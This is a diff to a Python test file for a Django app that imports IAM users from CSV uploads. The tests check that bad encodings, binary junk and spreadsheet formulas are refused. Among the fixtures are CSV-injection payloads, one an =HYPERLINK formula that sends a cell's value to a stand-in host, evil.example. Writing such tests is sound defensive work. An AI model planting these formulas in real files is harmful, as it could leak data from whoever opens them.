@@ -1,4 +1,4 @@
-"""Bad import files through the view (users/import_views.py), on moto's in-process IAM: each gets
+"""Bad import files through the view (users/views/imports.py), on moto's in-process IAM: each gets
 a clear message next to the file field (file-level errors: nothing kept) or in its rows (row
 errors: a dry run that cannot be confirmed), never a 5xx, and nothing is ever created in IAM
 (RELIABILITY.md B7, B10; users/imports.py)."""
@@ -16,7 +16,7 @@ from django.test import Client
 from django.urls import reverse
 
 from users import imports
-from users.gateway import MUTATING, IamGateway
+from users.iam.gateway import MUTATING, IamGateway
 from users.models import AuditEvent, ImportRow, Job, UserImport
 
 HEADER = "user_name,groups,tags,console_access,programmatic_access\n"
@@ -120,7 +120,7 @@ def test_it_refuses_binary_junk_under_the_size_limit_as_not_utf8(iam, operator_c
     "content, line",
     [
         ("user_name,tags\nJos\u00e9,team=web\n".encode("latin-1"), 2),
-        ("user_name\n".encode() + b"ann\n" * 3000 + "bj\u00f6rn\n".encode("cp1252"), 3002),
+        (b"user_name\n" + b"ann\n" * 3000 + "bj\u00f6rn\n".encode("cp1252"), 3002),
         ("user_name,tags\nann,team=web\n".encode("utf-16"), 1),
     ],
     ids=["latin-1", "cp1252-on-line-3002", "utf-16"],
@@ -191,7 +191,7 @@ def test_it_refuses_formulas_in_cells_row_by_row(iam, developers, operator_clien
         HEADER
         + 'ann,Developers,"=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")",yes,yes\n'
         + "=A1,Developers,team=web,no,yes\n"
-        + ' =1+2,,,no,yes\n'
+        + " =1+2,,,no,yes\n"
         + "@SUM(A1),,,no,yes\n"
         + "cy,Developers,team=web,yes,yes\n"
     ).encode()
@@ -216,7 +216,7 @@ def test_it_refuses_formulas_in_cells_row_by_row(iam, developers, operator_clien
 def test_it_refuses_a_formula_inside_a_tag_value(iam, operator_client) -> None:
     """Not at the start of the cell, so not caught as a formula, but IAM's tag characters leave
     out `(`, `"` and `,`: the tag rule refuses it."""
-    content = 'user_name,tags\nann,"link==HYPERLINK(""http://evil.example"",""x"")"\n'.encode()
+    content = b'user_name,tags\nann,"link==HYPERLINK(""http://evil.example"",""x"")"\n'
     upload, page = _plan_page(operator_client, _upload(operator_client, content))
     assert (upload.rows_total, upload.rows_invalid) == (1, 1)
     [entry] = upload.rows.get().errors
@@ -291,7 +291,7 @@ def test_the_template_is_a_valid_import(iam, operator_client) -> None:
     iam.create_group("Developers")
     template = operator_client.get(reverse("users:import_template"))
     content = b"".join(template.streaming_content) if template.streaming else template.content
-    upload, page = _plan_page(operator_client, _upload(operator_client, content))
+    upload, _ = _plan_page(operator_client, _upload(operator_client, content))
     assert (upload.rows_total, upload.rows_invalid) == (2, 0)
     assert io.StringIO(content.decode()).readline().strip() == ",".join(imports.COLUMNS)
 
